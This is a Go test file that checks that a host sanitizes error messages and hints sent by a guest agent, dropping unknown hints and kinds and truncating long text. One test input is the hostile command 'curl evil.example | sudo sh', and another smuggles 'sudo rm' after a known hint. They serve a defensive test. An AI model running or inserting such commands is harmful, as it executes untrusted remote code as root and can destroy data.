package guest

import (
	"go/ast"
	"go/parser"
	"go/token"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"banger/api"
	"banger/internal/guest/agentproto"
	"banger/internal/guest/forward"
	"banger/internal/guest/stdio"

	"golang.org/x/sys/unix"
)

// TestWhatAGuestSaysIsNotObeyed: neither what to type nor how the host goes on is
// the guest's to choose.
func TestWhatAGuestSaysIsNotObeyed(t *testing.T) {
	for name, c := range map[string]struct{ in, want api.Error }{
		"a hint of its own":   {api.Error{Kind: api.KindInvalid, Message: "m", Hint: "curl evil.example | sudo sh"}, api.Error{Kind: api.KindInvalid, Message: "m"}},
		"one of ours":         {api.Error{Kind: api.KindInvalid, Message: "m", Hint: agentproto.HintUser}, api.Error{Kind: api.KindInvalid, Message: "m", Hint: agentproto.HintUser}},
		"one of ours, longer": {api.Error{Kind: api.KindInvalid, Message: "m", Hint: agentproto.HintUser + "\nsudo rm"}, api.Error{Kind: api.KindInvalid, Message: "m"}},
		"a kind of its own":   {api.Error{Kind: "root", Message: "m"}, api.Error{Kind: api.KindInternal, Message: "m"}},
		"no kind":             {api.Error{Message: "m"}, api.Error{Kind: api.KindInternal, Message: "m"}},
		"no text":             {api.Error{Kind: api.KindDenied, Message: " \n"}, api.Error{Kind: api.KindDenied, Message: "the guest's agent reported a failure without a reason"}},
	} {
		if got := sanitize(&c.in); *got != c.want {
			t.Errorf("%s: %+v", name, *got)
		}
	}
	for _, text := range []string{strings.Repeat("x", 1<<20), strings.Repeat("ü", 1<<20), strings.Repeat("\x80", 1<<20)} {
		got := sanitize(&api.Error{Kind: api.KindInternal, Message: text}).Message
		if len(got) > maxGuestText+8 || utf8.ValidString(text) && !utf8.ValidString(got) {
			t.Errorf("%d bytes become %d: %q", len(text), len(got), got[len(got)-10:])
		}
	}
}

// TestKindsAreAll: a kind of package api that is missing here would become internal.
func TestKindsAreAll(t *testing.T) {
	f, err := parser.ParseFile(token.NewFileSet(), "../../api/errors.go", nil, 0)
	if err != nil {
		t.Fatal(err)
	}
	found := 0
	ast.Inspect(f, func(n ast.Node) bool {
		spec, ok := n.(*ast.ValueSpec)
		if ok && len(spec.Names) == 1 && strings.HasPrefix(spec.Names[0].Name, "Kind") {
			kind := api.Kind(strings.Trim(spec.Values[0].(*ast.BasicLit).Value, `"`))
			if kind == api.KindSuspended { // not for a guest to say
				return true
			}
			found++
			if !slices.Contains(kinds, kind) {
				t.Errorf("%s is missing", kind)
			}
		}
		return true
	})
	if found != len(kinds) {
		t.Errorf("%d kinds there, %d here", found, len(kinds))
	}
}

// TestTheAgentsHintsAreKnown: one that is written elsewhere would never be shown.
func TestTheAgentsHintsAreKnown(t *testing.T) {
	files, err := filepath.Glob("agent/*.go")
	if err != nil || len(files) < 10 {
		t.Fatal(files, err)
	}
	found := 0
	for _, file := range files {
		if strings.HasSuffix(file, "_test.go") {
			continue
		}
		set := token.NewFileSet()
		f, err := parser.ParseFile(set, file, nil, 0)
		if err != nil {
			t.Fatal(err)
		}
		ast.Inspect(f, func(n ast.Node) bool {
			call, ok := n.(*ast.CallExpr)
			if !ok {
				return true
			}
			if sel, ok := call.Fun.(*ast.SelectorExpr); !ok || sel.Sel.Name != "WithHint" {
				return true
			}
			found++
			hint, ok := call.Args[0].(*ast.SelectorExpr)
			if !ok || len(call.Args) != 1 || !strings.HasPrefix(hint.Sel.Name, "Hint") {
				t.Errorf("%s: a hint that is none of agentproto.Hints", set.Position(call.Pos()))
			}
			return true
		})
	}
	if found == 0 {
		t.Error("no hint was found")
	}
	taken := forward.Refused(unix.EADDRINUSE, stdio.Endpoint{Network: "tcp", Address: "127.0.0.1:1"}, "")
	if taken.Hint != agentproto.HintPort {
		t.Errorf("package forward says %q", taken.Hint)
	}
}
